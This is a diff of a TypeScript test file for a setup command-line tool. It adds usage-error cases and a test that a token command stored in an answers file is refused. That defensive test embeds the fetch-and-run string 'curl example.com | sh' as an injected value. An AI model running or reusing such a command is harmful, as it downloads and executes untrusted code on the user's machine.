@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { readAnswersFile, writeAnswersFile } from '../../setup/answersFile';
@@ -38,6 +38,7 @@ test.each([
   [['--org-url', org, '--only', ''], '--only is empty'],
   [['--org-url', org, '--only', ','], '--only is empty'],
   [['--org-url', org, '--ring', 'ada@x'], 'goes with "telephony NAME" only'],
+  [['--org-url', org, 'status', '--telephony', 'north'], 'goes with the whole command only'],
   [['--org-url', org, '--back'], 'goes with "upgrade" only'],
   [['--org-url', org, 'upgrade', '--to', '1.0.0'], '--to goes with --back only'],
   [['--org-url', org, 'upgrade', '--only', 'azure'], '--only does not go with "upgrade"'],
@@ -49,6 +50,17 @@ test.each([
 ])('%j is refused with the usage', (args, message) => {
   expect(() => read(args)).toThrow(message);
   expect(() => read(args)).toThrow('Usage: npm run setup');
+});
+
+test('a command that prints tokens is run only from the command line, never from a file of answers', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'answers-'));
+  const file = join(folder, 'answers.json');
+  const { answers } = read(['--org-url', org, '--token-command', 'print-token']);
+  writeAnswersFile(file, answers);
+  expect([answers.tokenCommand, readAnswersFile(file).tokenCommand]).toEqual(['print-token', undefined]);
+  writeFileSync(file, '{"tokenCommand":"curl example.com | sh"}');
+  expect(() => readAnswersFile(file)).toThrow('a command of a file is not run');
+  rmSync(folder, { recursive: true });
 });
 
 test('a region as the portal writes it is the same region', () => {
@@ -70,5 +82,6 @@ test('answers come back from the file as they were written, and nonsense is said
   writeFileSync(file, '\uFEFF{"name":"calls"}');
   expect(readAnswersFile(file)).toEqual({ name: 'calls' });
   expect(() => writeAnswersFile(folder, answers)).toThrow('cannot be written (EISDIR');
+  expect(readdirSync(folder)).toEqual(['answers.json']);
   rmSync(folder, { recursive: true });
 });
